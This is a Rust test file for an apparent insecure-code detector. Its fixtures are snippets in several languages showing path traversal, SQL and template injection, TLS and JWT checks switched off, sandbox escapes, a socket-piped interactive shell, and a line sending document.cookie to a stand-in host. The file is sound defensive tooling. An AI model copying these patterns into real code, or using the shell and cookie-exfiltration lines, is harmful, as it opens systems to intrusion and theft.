//! What whoever asks sends, guards that are switched off, and what is reached sideways.

use super::*;

#[test]
fn what_a_request_holds_decides_on_nothing() {
    check(
        L::Python,
        true,
        &[
            "@app.get('/f')\ndef f():\n    return open(request.args['name']).read()",
            "@app.get('/f/{name}')\ndef f(name: str):\n    return FileResponse('data/' + name)",
            "def view(request):\n    return requests.get(request.GET['url']).text",
            "@app.post('/t')\ndef t():\n    return render_template_string('<p>' + request.form['x'] + '</p>')",
            "@app.post('/u')\ndef u():\n    with tarfile.open(fileobj=request.files['a'].stream) as t:\n        t.extractall('out')",
            "@app.post('/r')\ndef r():\n    return str(getattr(tools, request.json['tool'])())",
            "df.query(request.args['q'])",
            "importlib.import_module('plugins.' + request.json['name'])",
            "@app.get('/env')\ndef env():\n    return dict(os.environ)",
        ],
    );
    check(
        L::JavaScript,
        true,
        &[
            "app.get('/f', (req, res) => res.send(fs.readFileSync('./files/' + req.query.name)))",
            "app.get('/p', async (req, res) => res.send(await fetch(req.query.url)))",
            "app.post('/c', (req, res) => res.json(tools[req.body.tool]()))",
            "app.post('/t', (req, res) => res.send(ejs.render(req.body.template)))",
            "const { file } = req.query; res.sendFile(file)",
        ],
    );
    check(
        L::Ruby,
        true,
        &[
            "params[:kind].constantize.find(1)",
            "record.public_send(params[:op])",
            "User.where(\"name = '#{params[:name]}'\")",
            "User.order(params[:sort])",
        ],
    );
    check(
        L::Go,
        true,
        &[
            "func h(w http.ResponseWriter, r *http.Request) {\n\tos.ReadFile(\"/srv/\" + r.FormValue(\"f\"))\n}",
            "func h(s *Store, r *http.Request) {\n\ts.db.QueryRowContext(ctx, fmt.Sprintf(\"SELECT a FROM t WHERE b = '%s'\", r.FormValue(\"b\")))\n}",
        ],
    );
    check(
        L::Rust,
        true,
        &[
            "async fn f(Path(name): Path<String>) -> String { std::fs::read_to_string(format!(\"files/{name}\")).unwrap() }",
            "async fn f(db: Db) { let q = format!(\"SELECT a FROM t WHERE b = '{}'\", x); sqlx::query_as::<_, Row>(&q).fetch_all(&db).await; }",
        ],
    );
}

#[test]
fn what_is_checked_or_only_a_value_is_not_asked() {
    check(
        L::Python,
        false,
        &[
            "@app.get('/items/{item}')\ndef item(item: int):\n    return db.get(item)",
            "@app.get('/f')\ndef f():\n    return open(os.path.basename(request.args['name'])).read()",
            "@app.post('/x')\ndef x():\n    cur.execute('SELECT a FROM t WHERE b = %s', (request.form['b'],))",
            "importlib.import_module(f'app.plugins.{name}')",
            "@app.get('/u')\ndef u():\n    return requests.get(f\"https://api.example.com/users/{request.args['id']}\").json()",
            "jinja2.Template(open('page.html').read()).render(x=1)",
        ],
    );
    check(
        L::JavaScript,
        false,
        &[
            "app.get('/i/:id', async (req, res) => res.json(await db.items.find(req.params.id)))",
            "app.get('/q', (req, res) => res.json(prices[req.query.name]))",
            "await axios.delete(`/api/todos/${id}`)",
            "pool.query('DELETE FROM todos WHERE id = $1', [id])",
        ],
    );
    check(L::Ruby, false, &["key = KEYS.include?(params[:k]) ? params[:k] : 'a'\nitem.public_send(key)"]);
}

#[test]
fn a_guard_is_found_however_it_is_switched_off() {
    check(
        L::Python,
        true,
        &[
            "ssl._create_default_https_context = ssl._create_unverified_context",
            "ctx.check_hostname = False",
            "ctx.verify_mode = ssl.CERT_NONE",
            "jwt.decode(t, options={'verify_signature': False})",
            "session.verify = False",
            "app.run(host='0.0.0.0', debug=True)",
        ],
    );
    check(
        L::JavaScript,
        true,
        &[
            "new https.Agent({ rejectUnauthorized: false })",
            "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'",
            "jwt.verify(t, '', { algorithms: ['none'] })",
            "new Worker(code, { eval: true })",
        ],
    );
    check(L::Go, true, &["c := &tls.Config{InsecureSkipVerify: true}"]);
    check(L::Rust, true, &["let c = Client::builder().danger_accept_invalid_certs(true).build()?;"]);
    check(L::Ruby, true, &["http.verify_mode = OpenSSL::SSL::VERIFY_NONE"]);
    check(
        L::Python,
        false,
        &[
            "requests.get('https://example.com', verify=True)",
            "assert ctx.verify_mode != ssl.CERT_NONE",
            "app.run(debug=True)",
        ],
    );
    check(L::JavaScript, false, &["new https.Agent({ rejectUnauthorized: true })"]);
}

#[test]
fn members_are_found_that_are_reached_sideways() {
    check(
        L::Python,
        true,
        &[
            "OPS = {'a': shutil.copy, 'b': shutil.rmtree}\nOPS[job['op']](job['arg'])",
            "operator.methodcaller('system', x)(m)",
            "().__class__.__base__.__subclasses__()[1](x)",
            "fn = pydoc.locate(x)\nfn()",
        ],
    );
    check(
        L::JavaScript,
        true,
        &[
            "[].filter.constructor('return process')()",
            "const F = Reflect.get(async () => {}, 'constructor'); Reflect.construct(F, [x])",
            "const { [`ex${'ec'}`]: go } = require('child_process'); go(x)",
            "await import('data:text/javascript,' + x)",
            "const sh = spawn('/bin/sh', ['-i']); sock.pipe(sh.stdin)",
            "execFile(process.execPath, ['--eval', x])",
        ],
    );
    check(
        L::TypeScript,
        true,
        &["import * as f from 'node:fs/promises';\n(f as Record<string, any>)[op](x)"],
    );
    check(L::Go, true, &["reflect.ValueOf(x).MethodByName(name).Call(nil)"]);
    check(
        L::Rust,
        true,
        &[
            "fn main() { println!(\"{:?}\", std::process::Command::new(\"sh\").arg(\"-c\").arg(x).output()); }",
        ],
    );
}

#[test]
fn secrets_are_not_written_where_others_read() {
    check(L::Python, true, &["logger.info('%s %s', user, password)", "print(client.secret_key)"]);
    check(
        L::JavaScript,
        true,
        &["console.log(apiKey)", "img.src = 'https://x.example/?c=' + document.cookie"],
    );
    check(L::Python, false, &["print('password')", "print(len(password))", "logger.info(user)"]);
}
